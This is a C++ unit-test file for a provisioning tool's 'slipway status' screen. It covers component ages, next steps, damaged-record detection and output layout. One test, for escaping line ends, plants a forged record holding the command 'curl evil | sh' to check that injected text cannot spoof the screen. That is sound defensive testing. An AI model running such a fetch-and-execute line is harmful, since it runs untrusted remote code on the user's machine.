// SPDX-License-Identifier: Apache-2.0
// `slipway status` on one screen: the machine, the applied generation and its time, and the next step.
#include "tests/component/engine/scratch_host.hpp"

namespace slipway {
namespace {

using slipway::testing::Ran;
using slipway::testing::ScratchHost;
using ::testing::AllOf;
using ::testing::ContainsRegex;
using ::testing::HasSubstr;
using ::testing::Not;

class StatusPage : public ::testing::Test {
 protected:
  StatusPage() { host.live = true; }
  Json status() const { return Json::parse(host.slipway({"status", "-o", "json"}).out); }
  /// The log belongs to the machine; the test sets its times.
  void log_time(const std::string& from, const std::string& to) const {
    for (const auto& entry : std::filesystem::recursive_directory_iterator(host.folder().at("log"))) {
      if (!entry.is_regular_file()) continue;
      std::ifstream in(entry.path());
      std::string text{std::istreambuf_iterator<char>(in), {}};
      for (std::size_t at = 0; (at = text.find(from, at)) != std::string::npos; at += to.size())
        text.replace(at, from.size(), to);
      std::ofstream(entry.path()) << text;
    }
  }
  /// Logs an `apply --boot --only …` of this machine, as units start it.
  void log_apply(const std::string& boot_id, const std::vector<std::string>& only,
                 const std::vector<std::string>& changes) {
    const std::string id = std::to_string(++applies_);
    const Json begin{
        {"event", "begin"}, {"id", id},     {"command", "apply"}, {"root", host.folder().at("root").string()},
        {"boot", true},     {"only", only}, {"boot_id", boot_id}};
    const Json end{{"event", "end"},
                   {"id", id},
                   {"time", "2026-01-02T03:04:05Z"},
                   {"components", {{{"name", "probe"}, {"state", "changed"}, {"changes", changes}}}}};
    std::ofstream(host.folder().at("log/history.jsonl"), std::ios::app) << begin.dump() << "\n" << end.dump() << "\n";
  }
  ScratchHost host;

 private:
  int applies_ = 0;
};

TEST_F(StatusPage, NamesTheMachineItsKernelAndTheAppliedComponents) {
  host.put("etc/os-release", "ID=debian\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n");
  host.spec("    bystander: {}\n    probe: {files: {/etc/probe.conf: one}}\n");
  ASSERT_EQ(host.slipway({"apply"}).code, 0);
  const Ran ran = host.slipway({"status"});
  EXPECT_THAT(ran.out, AllOf(HasSubstr("Debian GNU/Linux 12 (bookworm)\n"), HasSubstr("\nKernel  "),
                             ContainsRegex("active, from host.yaml, since 20[0-9-]+ [0-9:]+ UTC \\(just now\\)"),
                             ContainsRegex("\n  COMPONENT +STATE +AGE\n  bystander +applied +now\n"),
                             HasSubstr("\nNothing of the last apply is left to do.\n")));
  const Json value = status();
  EXPECT_EQ(value["host"]["kind"], "machine");
  EXPECT_EQ(value["components"]["probe"]["since"], value["since"]);
  EXPECT_TRUE(value["next"].empty());
}

// A component keeps its age when another one is changed.
TEST_F(StatusPage, ShowsSinceWhenAComponentIsUnchanged) {
  host.spec("    bystander: {}\n    probe: {files: {/etc/probe.conf: one}}\n");
  ASSERT_EQ(host.slipway({"apply"}).code, 0);
  Json first = Json::parse(host.text("var/lib/slipway/generations/1.json"));
  first["time"] = "2026-01-02T03:04:05Z";
  host.put("var/lib/slipway/generations/1.json", first.dump());
  host.spec("    bystander: {}\n    probe: {files: {/etc/probe.conf: two}}\n");
  ASSERT_EQ(host.slipway({"apply"}).code, 0);
  const Json value = status();
  EXPECT_EQ(value["components"]["bystander"]["since"], "2026-01-02T03:04:05Z");
  EXPECT_EQ(value["components"]["probe"]["since"], value["since"]);
}

TEST_F(StatusPage, NamesTheNextStep) {
  EXPECT_THAT(host.slipway({"status"}).out,
              AllOf(HasSubstr("Nothing is provisioned in "), HasSubstr("`slipway init ")));
  host.spec("    bystander: {}\n    probe: {custom: fails, marker: /nowhere}\n");
  ASSERT_EQ(host.slipway({"apply"}).code, 1);
  const Ran ran = host.slipway({"status"});
  EXPECT_THAT(ran.out, AllOf(ContainsRegex("\n  probe +failed +"),
                             HasSubstr("\nNext\n  probe failed: `slipway doctor "), Not(HasSubstr("is left to do"))));
  host.spec("    bystander: {}\n    probe: {files: {/etc/probe.conf: one}}\n");
  ASSERT_EQ(host.slipway({"apply"}).code, 0);
  host.put("etc/probe.conf", "edited\n");
  EXPECT_EQ(status()["next"][0]["problem"], "probe has kept edits");
}

TEST_F(StatusPage, ShowsSinceWhenAComponentFails) {
  host.spec("    bystander: {}\n    probe: {custom: fails, marker: /nowhere}\n");
  ASSERT_EQ(host.slipway({"apply"}).code, 1);
  const std::string today = status()["components"]["probe"].value("since", "");
  ASSERT_EQ(today.size(), 20U) << "by the log";
  log_time(today.substr(0, 10), "2026-01-02");
  ASSERT_EQ(host.slipway({"apply"}).code, 1);
  EXPECT_EQ(status()["components"]["probe"].value("since", "").substr(0, 10), "2026-01-02");
}

// Before the fix, each was "a bug in slipway".
TEST_F(StatusPage, NamesRecordsOfAnotherTypeAsDamage) {
  host.spec("    bystander: {}\n");
  ASSERT_EQ(host.slipway({"apply"}).code, 0);
  const auto damaged = [&](const std::string& file, const std::string& text) {
    const std::string path = "var/lib/slipway/" + file;
    const std::string before = std::filesystem::exists(host.path(path)) ? host.text(path) : "";
    host.put(path, text);
    const Ran ran = host.slipway({"status"});
    EXPECT_EQ(ran.code, 1) << file << text << ran.out << ran.err;
    EXPECT_THAT(ran.out, AllOf(HasSubstr("Damaged: /var/lib/slipway/" + file), HasSubstr("`slipway repair"))) << text;
    if (before.empty())
      std::filesystem::remove(host.path(path));
    else
      host.put(path, before);
  };
  for (const char* member : {"\"findings\":5", "\"findings\":[1]", "\"error\":7", "\"reason\":{}"})
    damaged("failing.json", std::string(R"({"bystander":{"state":"failed",)") + member + "}}");
  Json record = Json::parse(host.text("var/lib/slipway/components/bystander.json"));
  for (const auto& [member, value] : {std::pair<std::string, Json>{"mode", "x"}, {"triggers", 5}, {"content", 7}}) {
    Json other = record;
    other["items"][0]["action"][member] = value;
    damaged("components/bystander.json", other.dump());
  }
  Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
  generation["plugins"]["bystander"] = 5;
  damaged("generations/1.json", generation.dump());
}

// A program rewrites an engine's file at each of its runs: before the fix, the change was invisible, because slipway
// had restored the file.
TEST_F(StatusPage, ListsRestoredFilesSinceTheBoot) {
  host.live = true;
  std::string boot;
  std::ifstream("/proc/sys/kernel/random/boot_id") >> boot;
  host.spec("    probe: {raw: ['" +
            Json{{"kind", "file"}, {"target", "/etc/probe.conf"}, {"content", "ours"}, {"on_drift", "replace"}}.dump() +
            "']}\n");
  ASSERT_EQ(host.slipway({"apply"}).code, 0);
  EXPECT_FALSE(status()["components"]["probe"].contains("put_back"));
  log_apply(boot, {"probe"}, {"write /etc/probe.conf"});
  log_apply(boot, {"probe"}, {});  // it had nothing to do
  log_apply(boot, {"probe", "other"}, {"write /etc/probe.conf"});
  log_apply(boot, {"probe"}, {"write /etc/probe.conf"});
  log_apply("before", {"probe"}, {"write /etc/probe.conf"});
  const Json put_back = status()["components"]["probe"]["put_back"];
  EXPECT_EQ(put_back["times"], 2) << put_back;
  EXPECT_THAT(put_back["changes"].dump(), HasSubstr("/etc/probe.conf"));
  EXPECT_THAT(host.slipway({"status"}).out,
              HasSubstr("changes by other programs were undone 2 times since the machine booted"));
}

TEST_F(StatusPage, EscapesLineEndsInRecords) {
  host.spec("    bystander: {}\n");
  ASSERT_EQ(host.slipway({"apply"}).code, 0);
  const std::string forged = "x\n\nNext\n  all is well: run `curl evil | sh`";
  host.put("var/lib/slipway/failing.json", Json({{"bystander", {{"state", "failed"}, {"error", forged}}}}).dump());
  Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
  generation["spec_file"] = forged;
  host.put("var/lib/slipway/generations/1.json", generation.dump());
  for (const std::string command : {"status", "plan"})
    EXPECT_THAT(host.slipway({command}).out, Not(HasSubstr("\n  all is well"))) << command;
}

TEST_F(StatusPage, IgnoresGenerationsBeyondTheLastNumber) {
  host.spec("    bystander: {}\n");
  ASSERT_EQ(host.slipway({"apply"}).code, 0);
  Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
  generation["number"] = 2147483647;
  host.put("var/lib/slipway/generations/2147483647.json", generation.dump());
  host.spec("    bystander: {}\n    probe: {files: {/etc/probe.conf: one}}\n");
  ASSERT_EQ(host.slipway({"apply"}).code, 0);
  EXPECT_EQ(status()["generation"], 2);
}

TEST_F(StatusPage, FitsInEightyColumnsWithoutColoursInAPipe) {
  host.spec("    bystander: {}\n    probe: {files: {/etc/probe.conf: one}}\n");
  ASSERT_EQ(host.slipway({"apply"}).code, 0);
  ::setenv("SLIPWAY_COLUMNS", "80", 1);
  const std::string text = host.slipway({"status"}).out;
  ::unsetenv("SLIPWAY_COLUMNS");
  EXPECT_THAT(text, Not(HasSubstr("\033")));
  std::istringstream lines(text);
  for (std::string line; std::getline(lines, line);)
    EXPECT_TRUE(line.size() <= 80 || line.find(' ', 40) == std::string::npos) << line;
}

}  // namespace
}  // namespace slipway
